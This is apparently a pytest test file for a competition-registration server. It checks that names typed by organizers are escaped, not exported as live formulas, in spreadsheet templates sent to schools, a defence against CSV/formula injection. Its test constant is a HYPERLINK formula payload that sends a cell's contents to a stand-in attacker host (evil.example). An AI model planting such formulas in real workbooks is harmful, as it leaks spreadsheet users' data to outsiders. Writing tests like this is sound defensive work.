"""Review of spreadsheets handed from one role to another: text typed by one party never becomes a formula
in the workbook another party opens (CSV/formula injection)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from server.competitions.tables import Competition
from tests.server.factories import token_for
from tests.server.registration.support import make_competition, make_event

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def formulas(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{c.coordinate}: {c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))]


async def test_entry_template_title_is_never_a_formula(client, world):
    """The entry template's instructions sheet opened with the competition's name, as typed by its
    organizers: a name starting with '=' was a live formula in every school's template."""
    comp = await make_competition(world)
    await Competition.update({Competition.name: FORMULA}).where(Competition.id == comp)
    event = await make_event(comp, "E01", name="+电工")
    r = await client.get(f"/api/entries/template?event_id={event}", headers=await token_for(client, "coord_a"))
    assert r.status_code == 200, r.text
    assert formulas(r.content) == []
    wb = load_workbook(io.BytesIO(r.content))
    assert wb["说明 instructions"]["A1"].value.startswith("'" + FORMULA)
